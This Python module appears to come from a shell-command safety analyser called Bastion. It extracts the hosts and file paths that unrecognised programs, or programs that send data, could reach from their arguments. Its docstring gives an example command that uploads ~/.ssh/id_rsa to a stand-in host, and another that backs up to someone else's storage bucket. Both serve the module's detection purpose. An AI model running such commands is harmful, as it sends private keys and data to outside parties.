"""What a program Bastion has no model for can reach: the paths and hosts in its arguments.

An unknown program is not allowed by default on the grounds that nothing bad is known
about it (issue #13): ``mytool --upload ~/.ssh/id_rsa drop.example`` can read the key
and send it, so it is judged as reading every path and talking to every host it is given.
Programs with a model (``programs.registry.HANDLERS``, the file readers) and programs that
only work on local files (compilers, formatters, test runners) are left to their models.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from bastion.understand import shell_catalog as cat
from bastion.understand.programs.registry import HANDLERS
from bastion.understand.shell_model import ShellAnalysis

# Programs that work on local files and never talk to the network on their own; their
# path arguments are the workspace they build, check or format.
LOCAL_PROGRAMS = frozenset(
    """
    true false test [ cd pwd pushd popd exit return shift local read wait type which
    command hash alias unalias builtin trap ulimit umask sleep date cal seq yes basename
    dirname mktemp nproc uname hostname id whoami groups tty stty clear reset tput
    locale uptime free df lsblk ps pgrep pidof top htop time timeout nice ionice xargs
    pytest py.test mypy ruff black isort flake8 pylint pyright pycodestyle pydocstyle
    coverage tox nox pre-commit bandit autopep8 yapf sphinx-build mkdocs
    gcc g++ cc c++ clang clang++ ld as ar nm objdump readelf strip gdb lldb valgrind
    rustc rustfmt clippy-driver javac java kotlinc scalac tsc eslint prettier jest
    vitest mocha tsx ts-node esbuild webpack vite rollup babel gofmt golint
    vet staticcheck shellcheck shfmt clang-format clang-tidy cmake ctest meson
    ninja bazel buck ant mvn gradle sbt lein mix elixir erl rebar3 ghc cabal stack
    dune opam swift swiftc xcodebuild diff3 sdiff colordiff delta wdiff ed ex
    vimdiff code sleep ln mkdir rmdir touch chmod chown cp mv rm tee rename
    sort uniq wc head tail cat less more grep egrep fgrep rg ag ack find fd locate
    sed awk gawk mawk tr cut paste join column jq yq xmllint tidy file stat du ls
    tree realpath readlink md5sum sha1sum sha256sum sha512sum cksum base64 xxd od
    hexdump strings tar zip unzip gzip gunzip bzip2 xz zstd 7z patch git echo printf
    env export set unset source eval exec history fc jobs fg bg disown kill
    """.split()
)
# File name suffixes that make a dotted word a file, not a host.
_FILE_SUFFIXES = frozenset(
    """
    py pyc pyi pyx pxd txt md rst json toml yaml yml ini cfg conf sh bash zsh js mjs
    cjs ts tsx jsx c h cc cpp hpp hh cxx go rs java kt scala rb php pl pm lua r jl swift
    m mm cs fs vb html htm css scss sass less xml csv tsv lock log out err tmp bak orig
    old new swp diff patch o so a dylib dll exe bin obj class jar war whl egg tar gz
    tgz bz2 xz zst zip 7z rar png jpg jpeg gif svg ico webp pdf doc docx xls xlsx ppt
    pem key crt cer csr der p12 pfx env d service socket timer mk am ac in j2 tpl tmpl
    jinja sql db sqlite sqlite3 ipynb proto graphql gql vue svelte dart ex exs erl hrl
    hs elm clj cljs edn nix dockerfile gradle properties plist cfg1 test spec snap
    map wasm ttf woff woff2 eot mp3 mp4 wav avi mov mkv iso img dmg deb rpm apk msi
    sum mod vim el tf tfvars hcl cue jsonl ndjson parquet feather arrow pkl pickle npy
    npz h5 hdf5 onnx pt pth ckpt safetensors bz tbz
    """.split()
)
_HOST_WORD = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://)?(?:[^/@\s]+@)?"
    r"(?P<host>(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{1,62}|\d{1,3}(?:\.\d{1,3}){3})"
    r"(?::\d{1,5})?(?:/\S*)?$",
    re.IGNORECASE,
)
# Top-level domains a bare word must end in to be taken for a host (a URL, user@host or
# host:port is a host whatever its suffix). Code words such as self.message or re.match
# must not become destinations: generic TLDs in use, plus two-letter country codes except
# those that are also common code or file words.
_GENERIC_TLDS = frozenset(
    """
    com net org edu gov mil int info biz mobi asia travel museum xxx io ai dev cloud online
    tech xyz club vip website bank crypto top site live download stream
    example test invalid localhost internal lan corp arpa onion
    """.split()
)
_CODE_WORDS = frozenset(
    "id js ts rs py md db fs os re ui ok in is it at as do mk am ac pl pm hs sc nl no "
    "on or if be by go my we us uk de fr es".split()
)
_MAX_WORDS = 64
_PROGRAM = re.compile(r"^[A-Za-z0-9][A-Za-z0-9_.+-]*$")


@dataclass(slots=True)
class Reach:
    paths: list[str] = field(default_factory=list)
    hosts: list[str] = field(default_factory=list)
    programs: dict[str, str] = field(default_factory=dict)  # host or path -> program


def modelled(program: str) -> bool:
    family = cat.program_family(program)
    return (
        program in HANDLERS
        or family in HANDLERS
        or family in cat.FILE_READERS
        or family in cat.METADATA_ONLY
        or program in cat.WRAPPERS
        or program in cat.SHELLS
        or family in LOCAL_PROGRAMS
        or program in LOCAL_PROGRAMS
        or program.startswith(("python", "pip", "node", "ruby", "perl", "php"))
    )


# Object stores addressed by a bucket URL: the bucket is the destination, whatever the
# program (``tarn backup --to s3://someone-elses-bucket``); the host is the provider's
# name for that bucket, so that it reads as a destination like any other.
_BUCKET_URL = re.compile(
    r"^(s3|s3a|s3n|gs|gcs|az|abfss?|wasbs?|r2|b2|oss|cos)://([a-z0-9][a-z0-9._-]{1,62})"
)
_BUCKET_DOMAINS = {
    "s3": "s3.amazonaws.com",
    "s3a": "s3.amazonaws.com",
    "s3n": "s3.amazonaws.com",
    "gs": "storage.googleapis.com",
    "gcs": "storage.googleapis.com",
    "az": "blob.core.windows.net",
    "abfs": "dfs.core.windows.net",
    "abfss": "dfs.core.windows.net",
    "wasb": "blob.core.windows.net",
    "wasbs": "blob.core.windows.net",
    "r2": "r2.cloudflarestorage.com",
    "b2": "backblazeb2.com",
    "oss": "oss.aliyuncs.com",
    "cos": "cos.myqcloud.com",
}


def host_word(word: str) -> str:
    """The host a word names (``drop.example``, ``user@10.0.0.5:/srv``, a bucket URL), or ""."""
    text = word.strip().strip("'\"").lower()
    if "=" in text:
        text = text.split("=", 1)[1]
    bucket = _BUCKET_URL.match(text)
    if bucket:
        return f"{bucket.group(2).strip('.')}.{_BUCKET_DOMAINS[bucket.group(1)]}"
    if ":" in text and "://" not in text and not re.match(r"^[^:]+:\d+($|/)", text):
        text = text.split(":", 1)[0]  # scp-like user@host:path
    match = _HOST_WORD.match(text)
    if not match:
        return ""
    host = match.group("host")
    last = host.rsplit(".", 1)[-1]
    explicit = "://" in text or "@" in text or bool(re.search(r":\d{1,5}(?:/|$)", text))
    if not explicit:
        if last in _FILE_SUFFIXES:
            return ""
        known = last in _GENERIC_TLDS or (len(last) == 2 and last not in _CODE_WORDS)
        if not known and not re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}", host):
            return ""
    if not any(c.isalpha() for c in last) and not re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}", host):
        return ""
    return host


def path_word(word: str) -> str:
    """The path a word names when it clearly is one (absolute, ~, ../, or a dotted file)."""
    text = word.strip().strip("'\"")
    if "=" in text and not text.startswith(("/", "~", ".")):
        text = text.split("=", 1)[1]
    if text.startswith("@"):
        text = text[1:]
    if text.startswith(("/", "~", "../", "./")) and "://" not in text and "\n" not in text:
        return text
    return ""


def unmodelled_reach(shell: ShellAnalysis) -> Reach:
    """Paths and hosts named in the arguments of programs without a model."""
    out = Reach()
    for cmd in shell.commands:
        if modelled(cmd.program) or "/" in cmd.program or not _PROGRAM.match(cmd.program):
            continue
        # ``API_URL=https://elsewhere tool whoami``: the environment it is started with is
        # as much its argument as its argv.
        for word in (*cmd.assignments, *cmd.argv[1:_MAX_WORDS]):
            host = host_word(word)
            if host and host not in out.hosts:
                out.hosts.append(host)
                out.programs[host] = cmd.program
                continue
            path = path_word(word)
            if path and path not in out.paths:
                out.paths.append(path)
                out.programs[path] = cmd.program
    return out


# Options whose file is the program's own login, key or configuration: the program uses that
# credential to authenticate (``ssh -i key``, ``gcloud ... --key-file``, ``kubectl
# --kubeconfig``); it does not hand the file's content to the far side.
_AUTH_OPTIONS = re.compile(
    r"^-{1,2}(?:i|E|identity(?:[-_]file)?|(?:private[-_])?key(?:[-_]?file)?|keyfile|cert(?:[-_]file)?|"
    r"cacert|ca(?:[-_]file)?|kubeconfig|config(?:[-_]file)?|credentials?(?:[-_]file)?|"
    r"(?:token|password|passwd|secret|auth|netrc)[-_]file|netrc|profile|keystore|truststore|"
    r"service[-_]account(?:[-_]key)?(?:[-_]file)?)$"
)


def handed_to_senders(shell: ShellAnalysis, senders: set[str]) -> Reach:
    """Paths handed to programs whose model says they send (``gh issue comment N --body-file
    F``, ``gh release upload TAG F``, ``glab snippet create F``): what such a program is given
    as an operand or a content option goes where it sends, whatever its model knows of the
    option. The values of options that name the program's own login (``-i``, ``--key-file``,
    ``--kubeconfig``) are left out: the program authenticates with them."""
    out = Reach()
    for cmd in shell.commands:
        if cmd.program not in senders:
            continue
        args = list(cmd.argv[1:_MAX_WORDS])
        skip_next = False
        for word in args:
            if skip_next:
                skip_next = False
                continue
            if word.startswith("-"):
                name, eq, value = word.partition("=")
                if _AUTH_OPTIONS.match(name):
                    skip_next = not eq
                    continue
                if not eq:
                    continue
                word = value
            path = path_word(word)
            if path and path not in out.paths:
                out.paths.append(path)
                out.programs[path] = cmd.program
    return out
